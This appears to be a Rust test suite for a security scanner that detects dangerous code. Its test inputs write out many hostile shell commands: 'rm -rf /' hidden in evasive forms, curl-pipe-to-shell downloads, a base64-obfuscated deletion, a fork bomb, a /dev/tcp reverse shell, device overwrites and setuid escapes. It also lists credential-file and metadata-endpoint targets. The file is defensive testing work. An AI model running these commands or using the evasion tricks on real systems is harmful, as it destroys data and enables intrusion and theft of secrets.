//! Code that is made to hurt its reader: too deep, too much, not text, full of escape sequences.

#![allow(clippy::unwrap_used, clippy::panic, reason = "a test whose case cannot be set up has failed")]

use belljar_core::finding::{Finding, Severity};
use belljar_core::language::Language;
use belljar_scan::{Request, Trees, scan};
use proptest::prelude::*;

fn found(language: &str, code: &[u8]) -> Vec<Finding> {
    let language = Language::by_name(language).unwrap();
    scan(&Request { language, code, allowed_imports: None, trees: Trees::Wanted })
}

fn has(findings: &[Finding], rule: &str) -> bool {
    findings.iter().any(|finding| finding.rule == rule)
}

#[test]
fn nothing_hides_behind_padding() {
    let size = 900 << 10;
    for (language, line, hidden, rule) in [
        ("bash", "total=$((total + 1)) # and so on\n", "curl x", "bash.network.client"),
        ("bash", "echo 'it is all harmless' | cat\n", ". ./x; curl x", "bash.network.client"),
        ("python", "total = total + 1  # and so on\n", "import os; os.system('x')", "python.process.spawn"),
    ] {
        let padding = line.repeat(size / line.len());
        assert!(!has(&found(language, padding.as_bytes()), rule), "the control: {language}");
        assert!(has(&found(language, format!("{padding}{hidden}\n").as_bytes()), rule), "{language} {line}");
    }
}

/// Commands that do nothing, of many kinds, so often that it is more than half of what trees are made of.
fn half_of_padding() -> String {
    let lines = "total_1() {\n  local n=0 line\n  while IFS=, read -r line; do\n    if [[ $line == *1* || $line =~ ^(a|b)$ ]]; \
        then n=$((n << 1)); fi\n  done < data.csv\n  printf '%s: %d\\n' \"it's $n\" \"${line#'\"'}\" | sort -u # don't\n}\n\
        case \"$1\" in\n  a|b) : ;;\n  (\"c d\") : ;;\n  *) : ;;\nesac\ncat <<E\nit's \"a\" $(date)\nE\nx=(1 '2 3')\n\
        (( total = ${#x[@]} << 2 ))\necho `date` $'it\\'s' \"${x:-'}\" {a,b}\n";
    lines.repeat(68 * 1024 / lines.len())
}

#[test]
fn a_script_that_is_padded_beyond_what_is_parsed_hides_nothing() {
    let half = half_of_padding();
    let padding = half.repeat(2);
    let control = found("bash", padding.as_bytes());
    let rules: Vec<_> = control.iter().map(|finding| finding.rule.as_str()).collect();
    assert_eq!(rules, ["any.scan.large-script"], "the control");
    let (remove, download) = ("any.destructive.remove-everything", "any.network.download-and-run");
    let setuid = "python.escape.system-calls";
    for (hidden, rule) in [
        ("rm -rf /", remove),
        ("if true; then rm -rf /; fi", remove),
        ("f() { rm -rf /; }; f", remove),
        ("case a in a) rm -rf /;; esac", remove),
        ("case a in b) :;; curl|sh) ;; (a) rm -rf / ;; esac", remove),
        ("for x do rm -rf /; done", remove),
        ("for ((;;)) { rm -rf /; }", remove),
        ("while :; do rm -rf / & done", remove),
        ("! rm -rf /", remove),
        ("!(rm -rf /)", remove),
        ("A=b B='c d' rm -rf /", remove),
        ("x='rm -rf'; $x /", remove),
        ("export x=rm; echo x=ls; ${x} -rf /", remove),
        ("r\\m -r\\f '/'", remove),
        ("r\"\"m -rf \\\n /", remove),
        ("\"$(rm -rf /)\"", remove),
        ("echo \"a `rm -rf /` b\"", remove),
        ("echo `echo \\`rm -rf /\\``", remove),
        ("echo ${x:-$(rm -rf /)}", remove),
        ("echo \"${x:-'}\"; rm -rf / #'}\"", remove),
        ("echo $(( $(rm -rf /) + 1 ))", remove),
        ("((x << E)); rm -rf /\nE", remove),
        ("((rm -rf /) ; (true))", remove),
        ("[[ -n $(rm -rf /) ]]", remove),
        ("[[ a; rm -rf /", remove),
        ("cat <<E\n$(rm -rf /)\nE", remove),
        ("cat <<'E'; rm -rf /\nE\n", remove),
        ("cat <<-E\n\tE\nrm -rf /", remove),
        ("x=( $(rm -rf /) )", remove),
        ("bash -c 'rm -rf /'", remove),
        ("sudo -u x sh -c \"bash -c 'rm -rf /'\"", remove),
        ("eval 'rm -rf /'", remove),
        ("bash <<'E'\nrm -rf /\nE", remove),
        ("{ bash; } <<'E'\nrm -rf /\nE", remove),
        ("echo cm0gLXJmIC8= | base64 -d | sh", remove),
        ("curl -s x | sh", download),
        ("curl -s x |\n  tee log | sudo bash", download),
        ("{ curl -s x; } 2>/dev/null | sh", download),
        ("(\ncurl x\n) | sh", download),
        ("sh -c \"$(wget -qO- x)\"", download),
        (". <(curl x)", download),
        (":(){ :|:& };:", "any.destructive.fork-bomb"),
        ("python3 - <<'E'\nimport os\nos.setuid(0)\nE", setuid),
        ("cat <<E | python3\nimport os\nos.setuid(0)\nE", setuid),
        ("cat > x.py <<E\nimport os\nos.setuid(0)\nE", setuid),
        ("python3 <<< 'import os; os.setuid(0)'", setuid),
        ("python3 -c 'import os; os.setuid(0)'", setuid),
        ("echo 'import os; os.setuid(0)' | python3", setuid),
        ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "any.network.reverse-shell"),
        ("cat x > /dev/nvme0n1", "any.destructive.overwrite-device"),
    ] {
        let findings = found("bash", format!("{half}{hidden}\n{half}").as_bytes());
        assert!(has(&findings, rule), "{hidden}: {findings:?}");
        assert!(has(&findings, "any.scan.large-script"), "{hidden}: {findings:?}");
    }
    // A quote without an end. Where bash would end it is not known, so nothing is in it.
    let findings = found("bash", format!("{padding}echo \" # not the end\nrm -rf /\n").as_bytes());
    assert!(has(&findings, remove) && has(&findings, "any.scan.unreadable"), "{findings:?}");
}

#[test]
fn what_is_no_command_in_a_script_that_is_not_parsed_is_none() {
    let half = half_of_padding();
    let padding = half.repeat(2);
    for harmless in [
        "echo 'rm -rf /' \"curl x | sh\"",
        "# rm -rf /",
        "cat <<'E'\nrm -rf /\n$(curl x | sh)\nE",
        "case $1 in rm|curl|sh) echo no ;; esac",
        "[[ $1 == rm || $1 < curl ]]",
        "curl() { :; }; function wget { :; }",
        "x=(rm -rf /)",
        "echo ${x/rm -rf/\\/} $((curl | sh))",
    ] {
        let findings = found("bash", format!("{padding}{harmless}\n").as_bytes());
        let rules: Vec<_> = findings.iter().map(|finding| finding.rule.as_str()).collect();
        assert_eq!(rules, ["any.scan.large-script"], "{harmless}");
    }
}

#[test]
fn findings_in_a_script_that_is_not_parsed_say_so_and_where_they_are() {
    let half = half_of_padding();
    let padding = half.repeat(2);
    let code = format!("{padding}echo a\npython3 - <<'E'\nimport os\nos.setuid(0)\nE\ncurl x\n");
    let findings = found("bash", code.as_bytes());
    let lines = padding.lines().count();
    let curl = findings.iter().find(|finding| finding.rule == "bash.network.client").unwrap();
    assert_eq!((curl.start.line as usize, curl.start.column, curl.end.column), (lines + 6, 1, 7));
    assert!(curl.message.contains("by tokens"), "{}", curl.message);
    let inner = findings.iter().find(|finding| finding.rule == "python.escape.system-calls").unwrap();
    assert_eq!((inner.start.line as usize, inner.start.column), (lines + 4, 1));
    assert!(!inner.message.contains("by tokens"), "Python has a tree: {}", inner.message);
}

#[test]
fn many_small_scripts_in_a_script_are_not_all_parsed() {
    let scripts: String = (0..20_000).map(|number| format!("sh -c 'echo {number}'\n")).collect();
    let hidden = "sh -c 'sh -c \"rm -rf /\"'\n";
    for code in [format!("{scripts}{hidden}"), format!("python3 -c 1\n{hidden}{scripts}")] {
        let findings = found("bash", code.as_bytes());
        assert!(has(&findings, "any.destructive.remove-everything"), "{findings:?}");
        assert!(has(&findings, "any.scan.large-script"), "{findings:?}");
    }
}

#[test]
fn large_scripts_that_are_made_to_keep_the_reader_busy_are_read() {
    for part in [
        "((",
        "$((",
        "${",
        "${a:-",
        "$(",
        "\"$(",
        "`",
        "\"",
        "'",
        "[[ ",
        "<<E ",
        "case x in ",
        "x=(",
        "\0",
        "@(",
        "()",
    ] {
        let code = format!("curl x\n{}\n", part.repeat(400 * 1024 / part.len()));
        let findings = found("bash", code.as_bytes());
        assert!(has(&findings, "bash.network.client"), "{part}: {findings:?}");
    }
}

#[test]
fn ten_thousand_levels_do_not_overflow_the_stack() {
    for (language, before, open, close, hidden, rule) in [
        ("python", "x = ", "(", ")", "import os; os.system('x')", "python.process.spawn"),
        ("python", "x = ", "-", "", "import os; os.system('x')", "python.process.spawn"),
        ("python", "x = ", "[", "", "import os; os.system('x')", "python.process.spawn"),
        ("python", "x = ", "not ", "1", "import os; os.system('x')", "python.process.spawn"),
        ("python", "x = ", "lambda: ", "1", "import os; os.system('x')", "python.process.spawn"),
        ("python", "x = 1", "+1", "", "import os; os.system('x')", "python.process.spawn"),
        ("python", "x", ".a", "", "import os; os.system('x')", "python.process.spawn"),
        ("javascript", "x = ", "(", "", "fetch('x')", "javascript.network.client"),
        ("javascript", "x = ", "[", "]", "fetch('x')", "javascript.network.client"),
        ("javascript", "x = ", "!", "1", "fetch('x')", "javascript.network.client"),
        ("javascript", "x = ", "a=>", "1", "fetch('x')", "javascript.network.client"),
        ("javascript", "x", ".a", "", "fetch('x')", "javascript.network.client"),
        ("javascript", "", "{", "}", "fetch('x')", "javascript.network.client"),
        ("javascript", "", "if (a) {} else ", "{}", "fetch('x')", "javascript.network.client"),
        ("bash", "", "(", ")", "curl x", "bash.network.client"),
        ("bash", "", "{ ", "}", "curl x", "bash.network.client"),
        ("bash", "", "$(", ")", "curl x", "bash.network.client"),
        ("ruby", "x = ", "(", ")", "system('x')", "ruby.process.spawn"),
    ] {
        for levels in [10_000, 100_000] {
            let (open, close) = (open.repeat(levels), close.repeat(if close.len() < 2 { levels } else { 1 }));
            let code = format!("{hidden}\n{before}{open}{close}\n");
            let findings = found(language, code.as_bytes());
            assert!(has(&findings, rule), "{language} {before}{}: {findings:?}", &open[..8]);
        }
    }
    let nested: String = (0..10_000).map(|level| format!("{}if x:\n", " ".repeat(level % 200))).collect();
    found("python", nested.as_bytes());
}

#[test]
fn code_that_is_too_deep_is_a_finding_and_is_read_by_its_tokens() {
    let code = format!("import os\nos.system('x')\nx = {}", "(".repeat(200_000));
    let findings = found("python", code.as_bytes());
    assert!(has(&findings, "any.scan.too-deep"), "{findings:?}");
    let spawn = findings.iter().find(|finding| finding.rule == "python.process.spawn").unwrap();
    assert!(spawn.message.contains("by tokens"), "{}", spawn.message);
    assert_eq!(spawn.start.line, 2);
}

#[test]
fn code_that_ended_a_parser_is_read_by_its_tokens() {
    let language = Language::by_name("javascript").unwrap();
    let request = Request { language, code: b"fetch('x')", allowed_imports: None, trees: Trees::Failed };
    let findings = scan(&request);
    assert!(
        has(&findings, "any.scan.too-expensive") && has(&findings, "javascript.network.client"),
        "{findings:?}"
    );
}

#[test]
fn findings_are_bounded_and_counted() {
    let findings = found("python", b"import os\n");
    assert_eq!(findings, []);
    let many = format!("import os\n{}", "os.system('x')\n".repeat(10_000));
    let findings = found("python", many.as_bytes());
    let spawned: Vec<_> = findings.iter().filter(|finding| finding.rule == "python.process.spawn").collect();
    assert!(spawned.len() <= 20 && spawned[0].message.contains(" more)"), "{:?}", spawned[0]);
    let long = format!("import os; x = '{}'; os.system('{}')", "y".repeat(1 << 20), "z".repeat(1 << 20));
    for finding in found("python", long.as_bytes()) {
        assert!(finding.excerpt.chars().count() <= 162 && finding.message.len() < 300, "{finding:?}");
    }
}

#[test]
fn findings_of_some_rules_do_not_hide_those_of_another() {
    let flood: String = [
        "/etc/shadow",
        "/var/run/docker.sock",
        "169.254.169.254",
        "webhook.site",
        "/proc/self/mem",
        "~/.ssh/id_rsa",
        "stratum+tcp://x",
        "/sys/fs/cgroup",
        "~/.aws/credentials",
        "transfer.sh",
        "/proc/1/root",
        "/dev/mem",
    ]
    .iter()
    .flat_map(|word| (0..22).map(move |_| format!("    open('{word}')\n    requests.post('{word}')\n")))
    .collect();
    let code = format!("def unused():\n{flood}import os\nos.system('id')\n");
    let findings = found("python", code.as_bytes());
    assert!(findings.len() <= 200, "{}", findings.len());
    assert!(has(&findings, "python.process.spawn"), "{} findings without it", findings.len());
}

#[test]
fn hostile_text_is_made_harmless() {
    let code = "import os\nos.system('\x1b]0;owned\x07\u{202e}\r')\n";
    let findings = found("python", code.as_bytes());
    assert!(has(&findings, "python.process.spawn"));
    for finding in findings {
        let texts = [&finding.excerpt, &finding.message];
        assert!(
            texts.iter().all(|text| !text.contains(|c: char| c.is_control() || c == '\u{202e}')),
            "{finding:?}"
        );
    }
}

#[test]
fn bytes_that_are_no_text_are_scanned_all_the_same() {
    let findings = found("python", b"import os\n# \xff\xfe\nos.system('\xff')\n");
    let spawn = findings.iter().find(|finding| finding.rule == "python.process.spawn").unwrap();
    assert_eq!((spawn.start.line, spawn.start.column), (3, 1));
}

#[test]
fn a_finding_is_where_the_code_is() {
    let place = |language: &str, code: &str, rule: &str| {
        let findings = found(language, code.as_bytes());
        let finding =
            findings.iter().find(|finding| finding.rule == rule).unwrap_or_else(|| panic!("{findings:?}"));
        (finding.start.line, finding.start.column, finding.end.line, finding.end.column)
    };
    assert_eq!(place("python", "import os\né = 1; os.system('x')\n", "python.process.spawn"), (2, 8, 2, 22));
    assert_eq!(place("python", "import os\nos.system(\n  'x'\n)", "python.process.spawn"), (2, 1, 4, 2));
    // Code in code is where it stands, if it stands there as it is.
    let heredoc = "echo a\npython3 - <<'E'\nimport os\nos.setuid(0)\nE\n";
    assert_eq!(place("bash", heredoc, "python.escape.system-calls"), (4, 1, 4, 13));
    let argument = "bash -c 'echo; curl x'";
    assert_eq!(place("bash", argument, "bash.network.client"), (1, 16, 1, 22));
    // Otherwise, where it is run.
    assert_eq!(
        place("python", "exec('import os; ' + 'os.setuid(0)')", "python.escape.system-calls"),
        (1, 1, 1, 37)
    );
}

#[test]
fn code_of_another_language_is_scanned_as_what_it_is() {
    for (code, rule) in [
        ("python3 -c 'import os; os.setuid(0)'", "python.escape.system-calls"),
        ("node -e 'process.setuid(0)'", "javascript.escape.system-calls"),
        ("bash -c 'mkfs.ext4 /dev/sda'", "any.destructive.format"),
        ("perl -e 'syscall(1);'", "perl.escape.system-calls"),
        ("ruby -e 'require \"fiddle\"'", "ruby.escape.native-code"),
        ("php -r 'posix_setuid(0);'", "php.escape.native-code"),
        ("cat > x.py <<E\nimport os\nos.setuid(0)\nE", "python.escape.system-calls"),
        ("cat <<E | python3\nimport os\nos.setuid(0)\nE", "python.escape.system-calls"),
        ("python3 <<< 'import os; os.setuid(0)'", "python.escape.system-calls"),
        ("echo 'import os; os.setuid(0)' | python3", "python.escape.system-calls"),
        ("sudo -u x bash -c \"python3 -c 'import os; os.setuid(0)'\"", "python.escape.system-calls"),
    ] {
        assert!(has(&found("bash", code.as_bytes()), rule), "{code}: {:?}", found("bash", code.as_bytes()));
    }
    let nested = "import subprocess\nsubprocess.run(['node', '-e', 'process.setuid(0)'])";
    assert!(has(&found("python", nested.as_bytes()), "javascript.escape.system-calls"));
}

#[test]
fn every_language_that_runs_is_scanned() {
    for language in Language::all() {
        let findings = found(language.name, "\"169.254.169.254\"\n".as_bytes());
        assert!(
            findings.iter().any(|finding| finding.severity == Severity::Critical),
            "{language}: {findings:?}"
        );
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    #[test]
    fn no_text_makes_the_scanner_panic(
        text in "(?s)([a-z]{1,4}|[ -~]|\\n|import os|exec\\(|'|\"|\\$\\(|<<E\n|[\\u{80}-\\u{ffff}]){0,60}"
    ) {
        for language in Language::all() {
            for finding in found(language.name, text.as_bytes()) {
                prop_assert!(finding.start <= finding.end && finding.start.line >= 1);
            }
        }
    }
}
